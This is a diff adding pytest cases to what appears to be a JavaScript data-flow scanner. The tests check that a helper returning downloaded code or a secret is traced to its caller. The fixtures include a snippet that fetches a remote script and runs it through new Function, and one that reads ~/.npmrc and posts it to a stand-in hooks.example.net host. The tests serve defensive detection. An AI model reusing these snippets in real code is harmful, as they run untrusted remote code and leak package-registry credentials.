@@ -270,3 +270,40 @@ def test_token_soup_never_trips_the_walk():
     for _ in range(400):
         source = rnd.choice([" ", "", "\n"]).join(rnd.choice(words) for _ in range(rnd.randint(1, 120)))
         assert isinstance(javascript._Pass(*javascript._tokens(source)).run(), list)
+
+
+# ---------------------------------------------------------------- a helper's return value
+@pytest.mark.parametrize("script, expected", [
+    # an async helper returns the body of a download; its caller hands it to new Function
+    ("async function fetchRules(url) {\n  const res = await fetch(url);\n  if (!res.ok) throw new Error('x');\n"
+     "  return await res.text();\n}\n\nasync function main() {\n  const rules = await fetchRules('https://cdn.example.net/r.js');\n"
+     "  console.log('applying');\n  new Function('require', rules)(require);\n}\nmain();\n", [("DX-04", 10, 2)]),
+    # an arrow with an expression body returns a credential file; a POST body carries it
+    ("const fs = require('fs');\nconst os = require('os');\n"
+     "const profile = () => fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');\n"
+     "axios.post('https://hooks.example.net/p', { data: profile() });\n", [("EX-02", 4, 3)]),
+])
+def test_a_function_returning_a_download_or_a_secret_is_followed_to_its_caller(script, expected):
+    assert [(f.rule, f.line, f.source_line) for f in flows("javascript", script)] == expected
+
+
+@pytest.mark.parametrize("script", [
+    # returns a download's status only; a callback's return is the callback's own
+    "async function ping(u) {\n  const r = await fetch(u);\n  return r.status;\n}\n"
+    "function twice(xs) { return xs.map(x => { return fetch(x); }); }\n"
+    "const s = await ping('https://api.example.net');\neval(String(s));\n",
+    # a helper returning a constant; the download it made is logged
+    "async function version() {\n  const r = await fetch('https://api.example.net/v');\n  console.log(await r.text());\n"
+    "  return '1.2.3';\n}\nconst v = await version();\neval(`'${v}'`);\n",
+])
+def test_functions_that_return_nothing_downloaded_have_no_flow(script):
+    assert flows("javascript", script) == []
+
+
+@pytest.mark.parametrize("unit", ["function f(){ ", "function f(){ return fetch(u); }\n", "const g = () => fetch(u);\n",
+                                  "x => { return y; }\n"])
+def test_many_functions_and_returns_stay_fast(unit):
+    src = "fetch(u); eval(x);\n" + unit * (400_000 // len(unit))
+    start = time.perf_counter()
+    flows("javascript", src)
+    assert time.perf_counter() - start < 2.0
